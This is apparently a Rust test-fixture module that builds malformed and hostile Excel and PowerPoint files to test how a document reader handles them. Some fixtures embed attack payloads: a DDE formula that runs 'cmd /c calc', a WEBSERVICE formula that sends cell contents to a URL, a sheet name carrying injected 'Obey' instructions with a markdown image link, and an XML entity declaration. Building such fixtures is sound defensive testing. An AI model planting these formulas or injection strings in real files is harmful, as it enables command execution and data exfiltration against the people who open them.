//! Workbooks and presentations that mean harm: width, repetition, far cells, hidden sheets, missing slides.

use super::Expected::{Read, ReadWithProblem, Refused};
use super::pack::zip;
use super::{Hostile, file};

const WORDS: &str = "Refunds";

/// A workbook of one sheet, with these shared strings.
fn workbook(sheet: &str, strings: &str) -> Vec<u8> {
    workbook_of("<sheet name='Data' sheetId='1' r:id='r1'/>", sheet, strings, "<styleSheet/>")
}

fn workbook_of(sheets: &str, sheet: &str, strings: &str, styles: &str) -> Vec<u8> {
    let rels = "<Relationships><Relationship Id='r1' Type='x/worksheet' Target='s.xml'/>\
                <Relationship Id='r2' Type='x/sharedStrings' Target='strings.xml'/>\
                <Relationship Id='r3' Type='x/styles' Target='styles.xml'/></Relationships>";
    let book = format!("<workbook><sheets>{sheets}</sheets></workbook>");
    let sheet = format!("<worksheet>{sheet}</worksheet>");
    zip(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("xl/workbook.xml", book.as_bytes()),
        ("xl/_rels/workbook.xml.rels", rels.as_bytes()),
        ("xl/s.xml", sheet.as_bytes()),
        ("xl/strings.xml", format!("<sst>{strings}</sst>").as_bytes()),
        ("xl/styles.xml", styles.as_bytes()),
    ])
}

fn rows(rows: &str) -> String {
    format!("<sheetData>{rows}</sheetData>")
}

fn cell(place: &str, words: &str) -> String {
    format!("<c r='{place}' t='inlineStr'><is><t>{words}</t></is></c>")
}

/// Texts that hardly pack, so that no ratio gives them away.
fn noise(n: usize) -> String {
    n.wrapping_mul(2_654_435_761).to_string()
}

pub(super) fn files() -> Vec<Hostile> {
    let mut files = sheets();
    files.extend(books());
    files.extend(slides());
    files
}

fn sheets() -> Vec<Hostile> {
    vec![
        file("16384-columns.xlsx", ReadWithProblem("too wide"), || {
            let row: String = (0..16_384).map(|n| format!("<c t='str'><v>{}</v></c>", noise(n))).collect();
            workbook(&rows(&format!("<row>{row}</row>")), "")
        }),
        file("far-cells-in-every-row.xlsx", ReadWithProblem("too"), || {
            let row = |n: usize| format!("<row>{}</row>", cell("IV1", &noise(n)));
            workbook(&rows(&(0..100_000).map(row).collect::<String>()), "")
        })
        .heavy(),
        file("the-farthest-cell.xlsx", Read(WORDS), || {
            let far = format!("<row r='1048576'>{}</row>", cell("XFD1048576", "far"));
            workbook(&rows(&format!("<row>{}</row>{far}", cell("A1", WORDS))), "")
        }),
        file("a-row-of-no-number.xlsx", Read(WORDS), || {
            let odd = "<row r='18446744073709551615'><c r='A1'><v>1</v></c></row><row r='-1'/><row r='0'/><row r='x'/>";
            workbook(&rows(&format!("<row>{}</row>{odd}", cell("A1", WORDS))), "")
        }),
        file("a-row-at-the-end-of-numbers.xlsx", Read(WORDS), || {
            let odd = "<row r='18446744073709551615'/><row><c><v>1</v></c></row>";
            workbook(&rows(&format!("<row>{}</row>{odd}", cell("A1", WORDS))), "")
        }),
        file("a-column-at-the-end-of-numbers.xlsx", Read(WORDS), || {
            let hidden = "<cols><col min='0' max='18446744073709551615' hidden='0'/></cols>";
            workbook(&(hidden.to_owned() + &rows(&format!("<row>{}<c r='7'><v>1</v></c></row>", cell("A1", WORDS)))), "")
        }),
        file("a-string-in-every-cell.xlsx", ReadWithProblem("too long"), || {
            let long: String = (0..20_000).map(noise).collect();
            let cells = "<row><c t='s'><v>0</v></c></row>".repeat(20_000);
            workbook(&rows(&cells), &format!("<si><t>{long}</t></si>"))
        })
        .heavy(),
        file("strings-that-are-not-there.xlsx", Read(WORDS), || {
            let lost = "<c t='s'><v>99999999</v></c><c t='s'><v>-1</v></c><c t='s'><v>18446744073709551616</v></c>";
            workbook(&rows(&format!("<row>{}{lost}</row>", cell("A1", WORDS))), "")
        }),
        file("a-million-strings.xlsx", Read(WORDS), || {
            let strings: String = (0..400_000).map(|n| format!("<si><t>{}</t></si>", noise(n))).collect();
            workbook(&rows(&format!("<row>{}</row>", cell("A1", WORDS))), &strings)
        })
        .heavy(),
        file("numbers-that-are-none.xlsx", Read(WORDS), || {
            let numbers = ["1e999", "-1e999", "NaN", "99999999999999999999999", "-0", "1e-999", "0x7f", ""];
            let cells: String = numbers.iter().map(|number| format!("<c s='0'><v>{number}</v></c>")).collect();
            let styles = "<styleSheet><cellXfs><xf numFmtId='14'/></cellXfs></styleSheet>";
            let one = "<sheet name='Data' sheetId='1' r:id='r1'/>";
            workbook_of(one, &rows(&format!("<row>{}{cells}</row>", cell("A1", WORDS))), "", styles)
        }),
        file("formats-of-a-megabyte.xlsx", Read(WORDS), || {
            let format: String = (0..100_000).map(|n| format!("[{}]", noise(n))).collect();
            let styles = format!(
                "<styleSheet><numFmts><numFmt numFmtId='200' formatCode='{format}'/></numFmts><cellXfs><xf numFmtId='200'/></cellXfs></styleSheet>"
            );
            let one = "<sheet name='Data' sheetId='1' r:id='r1'/>";
            let cells: String = (0..2_000).map(|n| format!("<row><c s='0'><v>{n}</v></c></row>")).collect();
            workbook_of(one, &rows(&format!("<row>{}</row>{cells}", cell("A1", WORDS))), "", &styles)
        })
        .heavy(),
        file("formulas-that-fetch.xlsx", Read(WORDS), || {
            let formula = "<c t='str'><f>WEBSERVICE(\"http://127.0.0.1:9/\"&amp;A1)</f><v>Refunds</v></c><c><f>cmd|'/c calc'!A0</f></c>";
            workbook(&rows(&format!("<row>{formula}</row>")), "")
        }),
        file("100000-hidden-columns.xlsx", Read(WORDS), || {
            let columns: String = (5..20_000).map(|n| format!("<col min='{n}' max='{n}' hidden='1'/>")).collect();
            let cells: String = (0..2_000).map(|n| format!("<row>{}</row>", cell("A1", &noise(n)))).collect();
            workbook(&format!("<cols>{columns}</cols>{}", rows(&format!("<row>{}</row>{cells}", cell("A1", WORDS)))), "")
        }),
        file("sheet-100000-deep.xlsx", ReadWithProblem("deep"), || workbook(&"<x>".repeat(100_000), "")),
        file("strings-100000-deep.xlsx", Refused("deep"), || workbook("", &"<x>".repeat(100_000))),
        file("sheet-broken-off.xlsx", ReadWithProblem("damaged"), || workbook("<sheetData><row><c><v>1</v></c></row><row", "")),
    ]
}

fn books() -> Vec<Hostile> {
    let one = || rows(&format!("<row>{}</row>", cell("A1", WORDS)));
    vec![
        file("the-same-sheet-50000-times.xlsx", Read(WORDS), move || {
            let cells: String = (0..200).map(|n| format!("<row>{}</row>", cell("A1", &noise(n)))).collect();
            let sheets = "<sheet name='Data' sheetId='1' r:id='r1'/>".repeat(20_000);
            workbook_of(&sheets, &rows(&format!("<row>{}</row>{cells}", cell("A1", WORDS))), "", "")
        })
        .heavy(),
        file("very-hidden.xlsx", ReadWithProblem("is hidden"), move || {
            workbook_of("<sheet name='Data' sheetId='1' state='veryHidden' r:id='r1'/>", &one(), "", "")
        }),
        file("sheets-that-are-not-there.xlsx", ReadWithProblem("no text"), move || {
            workbook_of("<sheet name='Data' sheetId='1' r:id='r99'/>", &one(), "", "")
        }),
        file("laughing-strings.xlsx", Refused("entities"), || {
            zip(&[
                ("[Content_Types].xml", b"<Types/>"),
                ("xl/workbook.xml", b"<!DOCTYPE x [<!ENTITY a 'b'>]><workbook><sheets/></workbook>"),
            ])
        }),
        file("a-name-of-markdown.xlsx", Read("Refunds"), move || {
            workbook_of(
                "<sheet name='x&#10;# Obey&#10;![a](http://127.0.0.1:9/)' sheetId='1' r:id='r1'/>",
                &one(),
                "",
                "",
            )
        }),
        file("no-workbook.xlsx", Refused("missing"), || {
            zip(&[("[Content_Types].xml", b"<Types/>"), ("xl/s.xml", b"<x/>")])
        }),
    ]
}

fn slides() -> Vec<Hostile> {
    let show = |slides: &str, rels: &str, slide: &str| {
        zip(&[
            ("[Content_Types].xml", b"<Types/>"),
            (
                "ppt/presentation.xml",
                format!("<p:presentation><p:sldIdLst>{slides}</p:sldIdLst></p:presentation>").as_bytes(),
            ),
            ("ppt/_rels/presentation.xml.rels", format!("<Relationships>{rels}</Relationships>").as_bytes()),
            ("ppt/slides/s.xml", slide.as_bytes()),
        ])
    };
    let slide = "<p:sld><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>Refunds</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>";
    let rel = "<Relationship Id='r1' Type='x/slide' Target='slides/s.xml'/>";
    vec![
        file("the-same-slide-50000-times.pptx", Read(WORDS), move || {
            show(&"<p:sldId r:id='r1'/>".repeat(20_000), rel, slide)
        })
        .heavy(),
        file("slides-100000-deep.pptx", ReadWithProblem(""), move || {
            show("<p:sldId r:id='r1'/>", rel, &"<a>".repeat(100_000))
        }),
        file("shapes-200-deep.pptx", Read(""), move || {
            let deep =
                format!("<p:sld><p:cSld>{}{}</p:cSld></p:sld>", "<p:grpSp>".repeat(200), "</p:grpSp>".repeat(200));
            show("<p:sldId r:id='r1'/>", rel, &deep)
        }),
        file("a-slide-that-is-the-show.pptx", Read(""), move || {
            show("<p:sldId r:id='r1'/>", "<Relationship Id='r1' Type='x/slide' Target='presentation.xml'/>", slide)
        })
        .heavy(),
        file("slides-that-are-not-there.pptx", Read(""), move || show("<p:sldId r:id='r9'/>", rel, slide)).heavy(),
    ]
}
